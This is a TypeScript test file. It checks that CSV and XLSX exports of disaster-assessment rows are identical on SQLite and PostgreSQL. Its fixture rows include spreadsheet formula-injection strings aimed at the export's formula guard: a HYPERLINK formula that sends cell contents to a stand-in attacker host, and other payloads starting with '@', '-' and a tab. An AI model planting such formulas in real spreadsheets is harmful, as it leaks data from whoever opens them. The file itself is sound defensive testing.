/**
 * The same rows give the same file on either engine: this file runs once on SQLite and once on
 * PostgreSQL (the server-postgres project), and both compare the export with the files under
 * `same-bytes/`, so any difference between the engines' row paths (a date, a float, a null,
 * Khmer text, quoting, the formula guard) fails one of the two runs. CSV byte for byte; XLSX
 * by its sheet (the zip also holds the time it was written). To write the files again after a
 * deliberate change of format: `SAME_BYTES_WRITE=1 npx vitest run --project server <this file>`,
 * then read the diff.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { text } from 'node:stream/consumers';
import { beforeEach, describe, expect, it } from 'vitest';
import { assessmentReviews, assessments } from '$lib/server/db/schema';
import { assessmentWorld, COMMUNE } from '$lib/server/assessments/testing';
import { LIMITS } from '$lib/server/spreadsheets/limits';
import { openZip } from '$lib/server/spreadsheets/zip';
import { findDataset, startExport } from '.';

let w: Awaited<ReturnType<typeof assessmentWorld>>;
beforeEach(async () => {
	w = await assessmentWorld();
});

type Insert = typeof assessments.$inferInsert;

/** Every kind of value an export writes, and the text that needs care. */
function rows(): Insert[] {
	const base = {
		responseId: w.responseId,
		organisationId: w.iom,
		submittedBy: w.field.id,
		locationSource: 'gps' as const,
		pcodeSource: 'point' as const,
		access: 'road' as const,
		waterState: 'limited' as const,
		sanitationState: 'damaged' as const
	};
	return [
		{
			...base,
			id: '00000000-0000-4000-8000-000000000001',
			contentHash: 'a',
			observedOn: '2020-10-05',
			// Half past midnight in Cambodia, the evening before in UTC, with milliseconds.
			receivedAt: new Date(Date.UTC(2020, 9, 5, 17, 30, 5, 123)),
			lon: 103.2,
			lat: 13.123456789012,
			accuracyM: 0.1 + 0.2,
			provincePcode: 'KH02',
			districtPcode: 'KH0201',
			pcode: COMMUNE,
			pointPcode: COMMUNE,
			villageName: 'ភូមិថ្មី "ខាងលិច"',
			affectedHouseholds: 2_147_483_647,
			affectedPersons: 0,
			affected_f_0_5: 7,
			needs: ['water', 'shelter'],
			qtyTarpaulins: 12,
			notes: 'Road cut, "bridge" gone\r\nsecond line\nthird; ផ្លូវ, ស្ពាន'
		},
		{
			...base,
			id: '00000000-0000-4000-8000-000000000002',
			organisationId: w.crc,
			submittedBy: w.partner.id,
			contentHash: 'b',
			observedOn: '2020-10-05',
			receivedAt: new Date(Date.UTC(2020, 9, 5, 23, 59, 59, 999)),
			lon: 102.999999999,
			lat: 12.5,
			accuracyM: null,
			locationSource: 'map',
			pcodeSource: 'given',
			provincePcode: 'KH02',
			districtPcode: null,
			pcode: null,
			pointPcode: null,
			villageName: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
			needs: [],
			notes: '-2+3'
		},
		{
			...base,
			id: '00000000-0000-4000-8000-000000000003',
			contentHash: 'c',
			observedOn: '2020-10-31',
			receivedAt: new Date(Date.UTC(2020, 9, 31, 0, 0, 0, 0)),
			lon: 103.25,
			lat: 13.05,
			accuracyM: 1e-7,
			provincePcode: 'KH02',
			districtPcode: 'KH0201',
			pcode: 'KH020102',
			pointPcode: COMMUNE,
			villageName: '@SUM(1+1)',
			affectedHouseholds: 3,
			displacedPersons: 1,
			needs: ['food'],
			notes: '\tcmd'
		}
	];
}

async function fill() {
	const inserted = await w.db
		.insert(assessments)
		.values(rows())
		.returning({ seq: assessments.seq, id: assessments.id });
	const first = inserted.find((r) => r.id.endsWith('1'))!;
	await w.db.insert(assessmentReviews).values({
		assessmentSeq: first.seq,
		decision: 'duplicate',
		reviewedBy: w.coordinator.id,
		reviewedAt: new Date(Date.UTC(2020, 9, 6))
	});
}

async function exported(format: 'csv' | 'xlsx'): Promise<Buffer> {
	const file = await startExport(w.db, w.coordinator, findDataset('assessments')!, format, {
		responseId: String(w.responseId)
	});
	return Buffer.from(await new Response(file.body).arrayBuffer());
}

async function sheetXml(xlsx: Buffer): Promise<string> {
	const zip = await openZip(xlsx, LIMITS);
	try {
		const part = await zip.open('xl/worksheets/sheet1.xml');
		if (!part) throw new Error('no sheet');
		return await text(part);
	} finally {
		zip.close();
	}
}

/**
 * The expected file. Ids and seqs are the first ones a fresh database gives, on either engine;
 * `SAME_BYTES_WRITE` writes it from this run instead.
 */
function expected(name: string, actual: string): string {
	const path = `src/lib/server/exports/same-bytes/${name}`;
	if (process.env.SAME_BYTES_WRITE) writeFileSync(path, actual);
	return readFileSync(path, 'utf8');
}

describe('an export on either engine', () => {
	it('writes the same CSV bytes', async () => {
		await fill();
		const csv = (await exported('csv')).toString('utf8');
		expect(csv).toBe(expected('assessments.csv', csv));
	});

	it('writes the same XLSX sheet', async () => {
		await fill();
		const sheet = await sheetXml(await exported('xlsx'));
		expect(sheet).toBe(expected('assessments.sheet.xml', sheet));
	});
});
